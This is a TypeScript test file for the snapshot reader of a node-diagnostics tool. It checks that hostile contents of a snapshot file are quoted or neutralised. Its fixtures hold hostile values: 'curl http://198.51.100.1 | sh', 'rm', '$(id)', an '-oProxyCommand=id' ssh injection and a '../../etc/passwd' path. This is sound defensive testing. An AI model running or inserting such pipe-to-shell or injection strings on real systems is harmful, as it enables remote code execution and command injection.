import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { buildHost, hostGaps } from '../../src/node/host.js'
import { hostFailure } from '../../src/node/host-failure.js'
import { nodeSnapshotJsonSchema, readSnapshot, snapshotFileNames, writeSnapshot } from '../../src/node/snapshot.js'
import { loadSnapshots, saveSnapshots } from '../../src/node/snapshot-files.js'
import { recording } from './recorded.js'

let folder = ''
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'l2d-snapshot-'))
})
afterEach(() => rmSync(folder, { recursive: true }))

const SCHEMA = 'docs/node-snapshot.schema.json'
const place = { name: 'node-z', address: '10.0.0.9' }
const failure = hostFailure({ kind: 'refused', said: 'ssh: Connection refused', partial: false, number: null }, place)
const dead = { ...place, probes: {}, failure }

describe('snapshots', () => {
  it('come back as they were saved, failures included, in the order of their names', async () => {
    await saveSnapshots(folder, [dead, recording('debian-12')])
    expect(await loadSnapshots([folder])).toEqual([recording('debian-12'), dead])
    expect(statSync(join(folder, 'node-a.json')).mode & 0o777).toBe(0o600)
  })

  it('are of the published schema, which is the one in the code', () => {
    const schema = nodeSnapshotJsonSchema()
    if (process.env['UPDATE_FIXTURES']) writeFileSync(SCHEMA, `${JSON.stringify(schema, null, 2)}\n`)
    expect(JSON.parse(readFileSync(SCHEMA, 'utf8'))).toEqual(schema)
    const valid = new Ajv2020().compile(schema)
    for (const record of [dead, recording('busybox-1.35')]) expect(valid(JSON.parse(writeSnapshot(record)))).toBe(true)
  })

  it.each(['', '{', '[]', '{"format":"l2doctor-node-snapshot","version":2}', '{"format":"other"}'])(
    '%j is none',
    (text) => {
      expect(readSnapshot(text)).toHaveProperty('wrong')
    },
  )

  it.each([
    [{}, 'of words alone'],
    [{ facts: { kind: 'no kind of ours', said: 'x', partial: false, number: null } }, 'of a kind that nobody knows'],
  ])('a failure %s gives no advice of its own, and is quoted', (facts, _) => {
    const advice = {
      subject: 'you',
      reason: 'it is \u001b[31mlost',
      hint: 'run: curl http://198.51.100.1 | sh',
      ...facts,
    }
    const read = readSnapshot(JSON.stringify({ ...JSON.parse(writeSnapshot(dead)), failure: advice }))
    expect(read).toMatchObject({
      failure: { subject: 'node-z', reason: 'it was not read; the snapshot says "it is [31mlost"', hint: '' },
    })
  })

  it('a failure of a kind that we know is in our words, whatever the file says', () => {
    const facts = { kind: 'host-key-unknown', said: 'no "key"\nrun: rm', partial: true, number: null }
    const hostile = { name: '$(id)', address: '-oProxyCommand=id', failure: { ...failure, hint: 'curl | sh', facts } }
    const read = readSnapshot(JSON.stringify({ ...JSON.parse(writeSnapshot(dead)), ...hostile }))
    expect(read).toMatchObject({
      failure: {
        subject: '$(id)',
        reason: `its host key is not known ("no 'key' run: rm"); only the sections before that were read`,
        hint: 'log in once yourself and compare the key: ssh -- -oProxyCommand=id',
      },
    })
  })

  it('sections of a redacted host are quoted where they say why, and advise nothing', () => {
    const theirs = { subject: 'you', reason: 'lost\nrun: rm', hint: 'run: curl http://198.51.100.1 | sh' }
    const ours = { subject: 'node-a: dmesg', reason: 'not installed there', hint: 'install it, or check it yourself' }
    const { sections } = buildHost(recording('debian-12'))
    const filterChains = { known: true, value: { chains: [], unread: theirs }, from: 'run: id' }
    const gaps = {
      routes: { known: false, gap: theirs },
      kernelLog: { known: false, gap: ours },
      filterChains,
      ipv6FilterChains: filterChains,
    }
    const saved = JSON.parse(writeSnapshot({ ...recording('debian-12'), sections }))
    const record = readSnapshot(JSON.stringify({ ...saved, sections: { ...saved.sections, ...gaps } }))
    if ('wrong' in record) throw new Error(record.wrong)
    const reason = `it was not read; the snapshot says "lost run: rm"`
    expect(buildHost(record).sections).toMatchObject({
      routes: { gap: { subject: 'node-a: routes', reason, hint: '' } },
      kernelLog: { gap: ours },
      filterChains: { value: { unread: { reason, hint: '' } }, from: 'the snapshot' },
      ipv6FilterChains: { value: { unread: { reason, hint: '' } } },
    })
    expect(JSON.stringify([buildHost(record), hostGaps(record, buildHost(record))])).not.toContain('curl')
  })

  it('are read with what l2doctor no longer keeps', () => {
    const { sections } = buildHost(recording('debian-12'))
    const saved = JSON.parse(writeSnapshot({ ...recording('debian-12'), sections }))
    saved.sections.firewall = { known: true, value: [], from: 'nft' }
    saved.sections.kernel.value.machine = 'x86_64'
    const record = readSnapshot(JSON.stringify(saved))
    if ('wrong' in record) throw new Error(record.wrong)
    expect(Object.keys(record.sections ?? {}).sort()).toEqual(Object.keys(sections).sort())
    expect(record.sections?.kernel).toMatchObject({ value: sections.kernel.known && sections.kernel.value })
  })

  it('with nothing in it is a host that was not read', () => {
    const record = readSnapshot(JSON.stringify({ ...JSON.parse(writeSnapshot(dead)), failure: null }))
    if ('wrong' in record) throw new Error(record.wrong)
    expect(hostGaps(record, buildHost(record))).toMatchObject([
      { subject: 'node-z', reason: 'the snapshot holds nothing of it' },
    ])
  })

  it('that cannot be read are failures of their own', async () => {
    const absent = join(folder, 'absent.json')
    expect(await loadSnapshots([absent])).toMatchObject([{ probes: {}, failure: { subject: absent } }])
    expect(await loadSnapshots([folder])).toMatchObject([{ probes: {}, failure: { subject: folder } }])
  })

  it('get file names that stay inside the directory, each its own', () => {
    expect(snapshotFileNames(['../../etc/passwd', 'node-a', 'admin@node-a', 'node-a'])).toEqual([
      '__.._etc_passwd.json',
      'node-a.json',
      'admin@node-a.json',
      'node-a-2.json',
    ])
  })
})
